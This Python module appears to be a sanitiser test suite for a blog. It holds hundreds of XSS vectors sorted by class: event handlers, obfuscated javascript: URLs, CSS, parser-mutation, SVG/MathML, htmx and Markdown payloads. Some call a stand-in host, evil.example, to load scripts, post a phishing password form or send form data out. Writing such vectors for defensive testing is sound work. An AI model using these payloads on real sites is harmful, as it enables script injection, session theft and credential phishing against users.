"""Our own XSS test vectors, by class of attack.

Written for this project after studying the public corpora (the HTML5 Security Cheatsheet,
Markdown XSS payload lists, markdown-it's XSS fixtures, DOMPurify's test vectors); none of
their files is copied. Each vector is (class, text). The same text is saved as a Markdown post
and as an HTML post, so Markdown syntax is harmless text in the HTML path and HTML is raw
HTML in the Markdown path: both must come out inert.

Benign resources point at this blog ("x", "/x.png"); only dangerous contexts name
evil.example, so any request that reaches another host is a failure of the sanitiser.
"""

from __future__ import annotations

EVIL = "https://evil.example"

HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart",
    "ontoggle", "onpointerenter", "onbeforeinput", "oninput", "onwheel", "onscroll", "onstart",
    "onbegin", "onend", "onpageshow", "onhashchange", "onresize", "oncopy", "onauxclick",
    "ondblclick", "onkeydown", "ontransitionend", "onfocusin", "onmouseenter",
]  # fmt: skip

# How a javascript: URL hides from naive filters: case, entities, whitespace, control bytes.
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x6a&#x61&#x76&#x61script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "jav&Tab;ascript:alert(1)",
    "&NewLine;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "javascript:alert(document.cookie)",
    "jAvAsCrIpT&colon;alert&lpar;1&rpar;",
]
URL_CONTEXTS = [
    '<a href="{url}">link</a>',
    "<a href='{url}'>link</a>",
    "<a href={url}>link</a>",
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    "[link]({url})",
    "![image]({url})",
    "<{url}>",
]


def _handler_vectors() -> list[tuple[str, str]]:
    vectors = []
    for handler in HANDLERS:
        vectors.append(("event handler", f"<img src=x {handler}=alert(1)>"))
        vectors.append(("event handler", f'<div {handler}="alert(1)" tabindex=0>x</div>'))
        vectors.append(("event handler", f"<svg {handler}=alert(1)>"))
    vectors += [
        ("event handler", "<img/src/onerror=alert(1)>"),
        ("event handler", "<img src=x ONERROR=alert(1)>"),
        ("event handler", "<img src=x onerror\n=alert(1)>"),
        ("event handler", "<img src=x onerror=`alert(1)`>"),
        ("event handler", '<img src=x onerror="alert&lpar;1&rpar;">'),
        ("event handler", "<input autofocus onfocus=alert(1)>"),
        ("event handler", "<details open ontoggle=alert(1)>"),
        ("event handler", "<video><source onerror=alert(1)></video>"),
        ("event handler", "<audio src=x onerror=alert(1)>"),
        ("event handler", "<body onload=alert(1)>"),
        ("event handler", "<marquee onstart=alert(1)>x</marquee>"),
        ("event handler", '<p style="animation-name:spin" onanimationstart=alert(1)>x</p>'),
        (
            "event handler",
            "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
        ),
        ("event handler", '<span data-ke-size="size16" onclick="alert(1)">Tistory</span>'),
    ]
    return vectors


def _url_vectors() -> list[tuple[str, str]]:
    vectors = []
    for index, scheme in enumerate(SCHEMES):
        context = URL_CONTEXTS[index % len(URL_CONTEXTS)]
        vectors.append(("dangerous URL", context.format(url=scheme)))
        if context.startswith('<a href="'):
            continue
        vectors.append(("dangerous URL", URL_CONTEXTS[0].format(url=scheme)))
    vectors += [
        ("dangerous URL", '<a href="javascript:alert(1)" target=_blank>x</a>'),
        ("dangerous URL", '<area href="javascript:alert(1)">'),
        ("dangerous URL", '<img srcset="javascript:alert(1) 1x, x 2x">'),
        ("dangerous URL", '<picture><source srcset="javascript:alert(1)"><img src=x></picture>'),
        ("dangerous URL", '<a href="x" ping="' + EVIL + '/ping">x</a>'),
        ("dangerous URL", '<blockquote cite="javascript:alert(1)">x</blockquote>'),
        ("dangerous URL", '<video poster="javascript:alert(1)"></video>'),
        ("dangerous URL", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
        ("dangerous URL", '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">'),
    ]
    return vectors


CSS = [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background-image:url(' + EVIL + '/t.png)">x</p>',
    "<p style=\"background-image: url('" + EVIL + "/t.png')\">x</p>",
    '<p style="list-style-image:url(' + EVIL + '/t.png)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="width:ex/**/pression(alert(1))">x</p>',
    '<p style="width:\\65 xpression(alert(1))">x</p>',
    '<p style="color:red;-moz-binding:url(' + EVIL + '/x.xml#x)">x</p>',
    '<p style="behavior:url(' + EVIL + '/x.htc)">x</p>',
    "<p style=\"@import '" + EVIL + "/x.css'\">x</p>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white">login here</p>',
    '<p style="position:absolute;top:-100px">x</p>',
    '<p style="margin-top:-9999px">x</p>',
    '<p style="transform:translate(-500px,-500px)">x</p>',
    '<p style="content:url(' + EVIL + '/t.png)">x</p>',
    '<p style="cursor:url(' + EVIL + '/c.cur),auto">x</p>',
    '<p style="font-family:x;src:url(' + EVIL + '/f.woff)">x</p>',
    '<p style="background:&#117;rl(' + EVIL + '/t.png)">x</p>',
    '<p style="background:u&#x72;l(' + EVIL + '/t.png)">x</p>',
    '<p style="color:red\\;background:url(' + EVIL + '/t.png)">x</p>',
    "<style>@import '" + EVIL + "/x.css';</style>",
    "<style>body{background:url(" + EVIL + "/t.png)}</style>",
    "<style></style><script>alert(1)</script>",
    "<div style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='"
    + EVIL
    + "/x')\">x</div>",
    '<link rel="stylesheet" href="' + EVIL + '/x.css">',
    "<svg><style>@import url(" + EVIL + "/x.css)</style></svg>",
]

STRUCTURE = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=" + EVIL + "/x.js></script>",
    "<script/xss src=" + EVIL + "/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    '<script type="module">import("' + EVIL + '/x.js")</script>',
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "<!--<script>alert(1)--></script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=x>">',
    '<div id="x"><!--</div><img src=x onerror=alert(1)>--></div>',
    "<table><td><a href=x><style><img src=x onerror=alert(1)></style></a></td></table>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    '</div><div hx-get="/admin/" hx-trigger="load">escaped the wrapper?</div>',
    "</article></main><script>alert(1)</script>",
    "<div><div><div><div><div><img src=x onerror=alert(1)></div></div></div></div></div>" * 3,
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="' + EVIL + '/x.js"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><image href="' + EVIL + '/t.png" /></svg>',
    '<svg><feImage href="' + EVIL + '/t.png" /></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg/onload=alert(1)//",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:image/svg+xml,<svg onload=alert(1)>"></object>',
    "<svg><style>*{fill:url(" + EVIL + "/x#y)}</style></svg>",
]

ACTIVE_ELEMENTS = [
    '<form action="'
    + EVIL
    + '/steal"><input name=password type=password><button>Log in</button></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<form id=f></form><button form=f formaction="' + EVIL + '">x</button>',
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    '<base href="' + EVIL + '/">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=' + EVIL + '">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<link rel=import href="' + EVIL + '/x.html">',
    '<link rel=prefetch href="' + EVIL + '/x">',
    '<iframe src="' + EVIL + '"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="' + EVIL + '/x.swf"></object>',
    '<embed src="' + EVIL + '/x.swf">',
    '<applet code="x" codebase="' + EVIL + '"></applet>',
    '<portal src="' + EVIL + '"></portal>',
    "<img name=htmx src=x><form name=htmx></form>",
    '<a id="main" href="#">clobber the page\'s main</a><p id="preview">x</p>',
    "<input type=hidden name=csrf_token value=forged>",
]

HTMX = [
    '<div hx-get="/admin/" hx-trigger="load">x</div>',
    '<div data-hx-get="/admin/" data-hx-trigger="load">x</div>',
    '<button hx-post="/logout" hx-trigger="load">x</button>',
    '<div hx-on:click="alert(1)">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div hx-on-htmx-load="alert(1)">x</div>',
    '<div data-hx-on:click="alert(1)">x</div>',
    "<div hx-vals='js:{a: alert(1)}' hx-get=\"/\" hx-trigger=load>x</div>",
    '<div hx-headers=\'js:{"X": alert(1)}\' hx-get="/" hx-trigger=load>x</div>',
    '<div hx-get="' + EVIL + '" hx-trigger="load">x</div>',
    '<a hx-boost="true" href="/admin/">x</a>',
    '<div hx-swap-oob="true" id="main">replaced</div>',
    '<div hx-target="body" hx-get="/" hx-trigger="load">x</div>',
    '<div hx-ext="debug" hx-get="/">x</div>',
    '<div hx-include="#post-form" hx-post="' + EVIL + '" hx-trigger=load>x</div>',
    '<div hx-trigger="every 1s" hx-get="/admin/">x</div>',
    '<div hx-trigger="click[alert(1)]" hx-get="/">x</div>',
    '<form hx-post="/admin/trash/empty" hx-trigger="load"></form>',
    '<div hx-disinherit="*" hx-get="/">x</div>',
    '<div hx-history-elt hx-get="/">x</div>',
    '<div HX-GET="/admin/" HX-TRIGGER="load">x</div>',
    '<div hx-get="/admin/" hx-trigger="load" data-ke-size="size16">Tistory-looking</div>',
    '<template hx-get="/"><div hx-trigger=load></div></template>',
    '<div hx-sse="connect:/x" hx-ws="connect:/y">x</div>',
    "<div data-hx-vals='js:{a: alert(1)}'>x</div>",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](javas%63ript:alert(1))",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '![x"onerror="alert(1)](x)',
    '[x](http://x "onmouseover=alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '![x][ref]\n\n[ref]: javascript:alert(1) "title"',
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    'A paragraph\n{: onclick="alert(1)"}',
    'A paragraph\n{: hx-get="/admin/" hx-trigger="load"}',
    'A paragraph\n{: style="position:fixed;top:0;left:0"}',
    '## Heading {: onmouseover="alert(1)" }',
    '[x](http://x){: onclick="alert(1)"}',
    '*[HTML]: " onmouseover="alert(1)\n\nHTML here',
    "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '<div markdown="1" onclick="alert(1)">\n*x*\n</div>',
    '<details markdown="1"><summary>s</summary>\n\n<script>alert(1)</script>\n\n</details>',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "[TOC]\n\n## <img src=x onerror=alert(1)>",
    "Term\n: <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "* [x](javascript:alert(1))",
    "[![x](x)](javascript:alert(1))",
    '[x](#" onclick="alert(1))',
    '<a href="javascript:alert(1)">*raw html in markdown*</a>',
]

ENCODING = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=\x00alert(1)>",
    "<img src=x o\x00nerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="javascript\u0000:alert(1)">x</a>',
    "{{ 7*7 }} {% raw %}<script>alert(1)</script>{% endraw %}",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<img src=`x`onerror=alert(1)>",
]

VECTORS: list[tuple[str, str]] = [
    *_handler_vectors(),
    *_url_vectors(),
    *(("CSS", v) for v in CSS),
    *(("HTML structure and mutation", v) for v in STRUCTURE),
    *(("SVG and MathML", v) for v in SVG_MATHML),
    *(("forms, meta, base, frames, clobbering", v) for v in ACTIVE_ELEMENTS),
    *(("htmx attributes", v) for v in HTMX),
    *(("Markdown syntax", v) for v in MARKDOWN),
    *(("encoding and obfuscation", v) for v in ENCODING),
]
